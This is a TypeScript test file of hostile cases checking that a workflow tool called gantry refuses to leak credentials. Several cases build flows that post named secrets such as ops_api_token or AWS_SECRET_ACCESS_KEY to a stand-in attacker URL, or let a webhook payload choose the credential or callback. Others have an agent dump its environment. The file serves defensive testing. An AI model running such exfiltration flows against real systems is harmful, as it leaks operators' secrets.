/**
 * Items 3 and 4: a flow or a payload naming a credential the configuration does not declare (by
 * its name, its variable's name, an expression), a declared one sent to another origin, the
 * webhook secret sent out; services that echo the credential back in bodies, headers and errors;
 * a command agent that prints its environment. The attacker's stand-in is a loopback server the
 * address guard lets through (outbound.allow), so only the credential rules can stop the leak.
 */
import { join } from 'node:path';
import { BUDGET, type HostileCase } from '../case.js';
import { hooked } from '../harness.js';
import { FIXTURES } from '../processes.js';

/** An http connector call to the attacker with `authentication`. */
const exfiltrate = (authentication: string, url = '%ATTACKER%/collect') =>
  hooked('Exfiltrate', [{ id: 'send', type: 'external_api', data: { service: 'http', action: 'post', url, authentication, body: { hello: 'world' } } }]);

const CREDENTIAL_REFUSED = { status: 'failed', code: 'CREDENTIAL_REFUSED' } as const;
const undeclared = /CREDENTIAL_UNDECLARED/;
const envDump = (mode: string) => ({ transport: 'command', command: process.execPath, args: [join(FIXTURES, 'env-dump.mjs'), mode], authentication: 'agent_token' });

export const credentialCases: HostileCase[] = [
  {
    id: 'cred-undeclared-validate',
    item: '3',
    title: 'gantry validate --config: an http node names ops_api_token, which the configuration does not declare',
    via: 'validate',
    standIns: true,
    flow: exfiltrate('ops_api_token'),
    args: ['--config', 'gantry.config.json', 'flows/hostile.json'],
    expect: { budgetMs: BUDGET.process, exit: 2, says: /CREDENTIAL_UNDECLARED[\s\S]*ops_api_token/, attackerUntouched: true },
  },
  {
    id: 'cred-undeclared-serve',
    item: '3',
    title: 'gantry serve refuses to start a flow naming the undeclared ops_api_token',
    via: 'serve-start',
    standIns: true,
    flow: exfiltrate('ops_api_token'),
    expect: { budgetMs: BUDGET.process, exit: 2, says: undeclared, attackerUntouched: true },
  },
  {
    id: 'cred-undeclared-run',
    item: '3',
    title: 'gantry run refuses a flow naming the undeclared ops_api_token, before anything runs',
    via: 'run',
    standIns: true,
    flow: exfiltrate('ops_api_token'),
    expect: { budgetMs: BUDGET.process, exit: 2, says: undeclared, attackerUntouched: true },
  },
  {
    id: 'cred-default-variable-name',
    item: '3',
    title: 'a flow names aws_secret_access_key: today\'s default mapping reads AWS_SECRET_ACCESS_KEY',
    via: 'serve-start',
    standIns: true,
    flow: exfiltrate('aws_secret_access_key'),
    expect: { budgetMs: BUDGET.process, exit: 2, says: undeclared, attackerUntouched: true },
  },
  {
    id: 'cred-undeclared-webhook',
    item: '3',
    title: 'a webhook authenticated by ops_api_token (a bearer token nobody declared): gantry serve refuses to start',
    via: 'serve-start',
    flow: { name: 'Undeclared webhook', nodes: [{ id: 'hook', type: 'webhook', data: { endpoint: '/hostile', authentication: 'ops_api_token' } }] },
    expect: { budgetMs: BUDGET.process, exit: 2, says: undeclared },
  },
  {
    id: 'cred-webhook-secret-out',
    item: '3',
    title: 'a flow sends the declared webhook secret (github_webhook_secret) as a bearer token',
    via: 'webhook',
    standIns: true,
    flow: exfiltrate('github_webhook_secret'),
    expect: { budgetMs: BUDGET.run, run: CREDENTIAL_REFUSED, orRefusedBeforeRun: /CREDENTIAL_/, attackerUntouched: true },
  },
  {
    id: 'cred-payload-names-it',
    item: '3',
    title: 'the payload names the credential (authentication is an expression): ops_api_token',
    via: 'webhook',
    standIns: true,
    flow: exfiltrate('{% $trigger.credential %}'),
    payload: { credential: 'ops_api_token' },
    expect: { budgetMs: BUDGET.run, run: CREDENTIAL_REFUSED, orRefusedBeforeRun: /CREDENTIAL_/, attackerUntouched: true },
  },
  {
    id: 'cred-payload-names-variable',
    item: '3',
    title: 'the payload names the variable itself, in capitals: AWS_SECRET_ACCESS_KEY',
    via: 'webhook',
    standIns: true,
    flow: exfiltrate('{% $trigger.credential %}'),
    payload: { credential: 'AWS_SECRET_ACCESS_KEY' },
    expect: { budgetMs: BUDGET.run, run: CREDENTIAL_REFUSED, orRefusedBeforeRun: /CREDENTIAL_/, attackerUntouched: true },
  },
  {
    id: 'cred-declared-other-origin',
    item: '3',
    title: 'a declared credential (deploy_token, for the configured service) sent to the attacker\'s origin',
    via: 'webhook',
    standIns: true,
    flow: exfiltrate('deploy_token'),
    config: { credentials: { deploy_token: { env: 'DEPLOY_TOKEN' } }, connectors: { github: { base_url: '%SERVICE%', credential: 'deploy_token' } } },
    expect: { budgetMs: BUDGET.run, run: CREDENTIAL_REFUSED, orRefusedBeforeRun: /CREDENTIAL_/, attackerUntouched: true },
  },
  {
    id: 'cred-payload-picks-url',
    item: '3',
    title: 'a declared credential sent to a URL the payload picks (%ATTACKER%)',
    via: 'webhook',
    standIns: true,
    flow: exfiltrate('deploy_token', '{% $trigger.callback %}'),
    payload: { callback: '%ATTACKER%/callback' },
    config: { credentials: { deploy_token: { env: 'DEPLOY_TOKEN' } }, connectors: { github: { base_url: '%SERVICE%', credential: 'deploy_token' } } },
    expect: { budgetMs: BUDGET.run, run: CREDENTIAL_REFUSED, attackerUntouched: true },
  },
  {
    id: 'cred-echoed-by-connector',
    item: '+',
    title: 'GitHub (the configured service) answers 403 quoting the token in its body, a header and WWW-Authenticate',
    via: 'webhook',
    standIns: true,
    flow: hooked('Echo', [{ id: 'comment', type: 'external_api', data: { service: 'github', action: 'create_comment', repository: 'o/r', issue_number: 1, body: 'hi' } }]),
    config: { credentials: { github_token: { env: 'GITHUB_TOKEN' } }, connectors: { github: { base_url: '%SERVICE%', credential: 'github_token' } } },
    expect: { budgetMs: BUDGET.run, run: { status: 'failed' }, serviceGot: 'GITHUB_TOKEN' },
  },
  {
    id: 'cred-echoed-by-agent',
    item: '+',
    title: 'an http agent replies with its bearer token in its result and headers',
    via: 'webhook',
    standIns: true,
    flow: hooked('Echo agent', [{ id: 'work', type: 'agent', data: { agent: 'remote', task: 'work' } }]),
    config: { credentials: { agent_token: { env: 'AGENT_TOKEN' } }, agents: { remote: { transport: 'http', url: '%SERVICE%/agent', authentication: 'agent_token' } } },
    expect: { budgetMs: BUDGET.run, run: { status: 'succeeded' }, serviceGot: 'AGENT_TOKEN' },
  },
  {
    id: 'cred-redirected-to-attacker',
    item: '+',
    title: 'the configured service redirects (307) to the attacker\'s origin: the bearer token must not follow',
    via: 'webhook',
    standIns: true,
    flow: hooked('Redirect', [{ id: 'comment', type: 'external_api', data: { service: 'github', action: 'create_comment', repository: 'o/r', issue_number: 1, body: 'hi' } }]),
    config: { credentials: { github_token: { env: 'GITHUB_TOKEN' } }, connectors: { github: { base_url: '%SERVICE%/redirect', credential: 'github_token' } } },
    expect: { budgetMs: BUDGET.run, run: { status: ['failed', 'succeeded'] }, serviceGot: 'GITHUB_TOKEN' },
  },
  {
    id: 'env-command-agent-reply',
    item: '4',
    title: 'a command agent replies with its whole environment',
    via: 'webhook',
    flow: hooked('Env dump', [{ id: 'dump', type: 'agent', data: { agent: 'dumper', task: 'dump' } }]),
    config: { credentials: { agent_token: { env: 'AGENT_TOKEN' } }, agents: { dumper: envDump('reply') } },
    // HOSTILE_UNRELATED is in Gantry's environment, not a secret, named by no configuration: a
    // minimal environment leaves it out.
    expect: { budgetMs: BUDGET.heavyRun, run: { status: 'succeeded' }, never: [/unrelated-variable-of-the-operator/] },
  },
  {
    id: 'env-command-agent-stderr',
    item: '4',
    title: 'a command agent prints its whole environment on stderr and fails (the error quotes stderr)',
    via: 'webhook',
    flow: hooked('Env dump', [{ id: 'dump', type: 'agent', data: { agent: 'dumper', task: 'dump' } }]),
    config: { credentials: { agent_token: { env: 'AGENT_TOKEN' } }, agents: { dumper: envDump('stderr') } },
    expect: { budgetMs: BUDGET.heavyRun, run: { status: 'failed', code: 'AGENT_FAILED' }, never: [/unrelated-variable-of-the-operator/] },
  },
  {
    id: 'env-command-agent-run',
    item: '4',
    title: 'gantry run: a command agent replies with its environment (journal and show --json)',
    via: 'run',
    flow: hooked('Env dump', [{ id: 'dump', type: 'agent', data: { agent: 'dumper', task: 'dump' } }]),
    config: { credentials: { agent_token: { env: 'AGENT_TOKEN' } }, agents: { dumper: envDump('reply') } },
    expect: { budgetMs: BUDGET.process, exit: 0, run: { status: 'succeeded' }, never: [/unrelated-variable-of-the-operator/] },
  },
];
